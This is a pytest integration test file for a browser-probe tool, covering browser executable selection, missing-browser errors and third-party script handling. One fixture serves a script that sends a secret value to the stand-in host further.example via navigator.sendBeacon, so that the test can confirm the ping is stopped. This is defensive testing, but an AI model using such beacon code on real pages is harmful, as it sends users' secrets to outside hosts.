"""Which browser is started, and what it may reach where the target file says more."""

from pathlib import Path

import pytest

from probes.browser.chromium import executable, lacking, opened
from probes.errors import NotSet
from tests.probes.browser.foreign import SECRET, sites, target_of
from tests.probes.browser.staging import found, staged
from tests.probes.looking import looking

pytestmark = pytest.mark.integration


def test_a_watched_third_party_is_let_through_and_its_code_runs(tmp_path: Path) -> None:
    with staged(tmp_path, '[browser]\nwatched = ["@PLACE@"]') as stage:
        stage.other.pages["/s.js"] = f'navigator.sendBeacon("https://further.example/", "{SECRET}")'
        foreign = stage.visit(page='<script src="@OTHER@/s.js"></script>')
        assert stage.other.asked == ["/s.js"]
    assert [(request.kind, request.stopped) for request in foreign] == [("script", False), ("ping", True)]
    assert found(foreign) == ["body"]


def test_a_declared_browser_that_is_not_there_is_told_with_what_to_do(tmp_path: Path) -> None:
    with sites() as (own, _):
        target = target_of(tmp_path, own, '[browser]\nexecutable = "no-such-browser"')
    with pytest.raises(NotSet, match="no-such-browser; install one"):
        executable(target)


def test_a_program_that_is_no_browser_is_told(tmp_path: Path) -> None:
    with sites() as (own, _):
        look = looking(target_of(tmp_path, own, '[browser]\nexecutable = "false"'), "buyer")
    with pytest.raises(NotSet, match="could not be started"), opened(look):
        pass


def test_without_any_browser_on_the_path_playwright_s_own_is_taken(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    with sites() as (own, _):
        assert executable(target_of(tmp_path, own)) is None


def test_what_is_lacking_to_start_one_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with sites() as (own, _):
        target = target_of(tmp_path, own)
    assert lacking(target) is None
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.setenv("PLAYWRIGHT_BROWSERS_PATH", str(tmp_path))
    assert lacking(target) == "chromium"
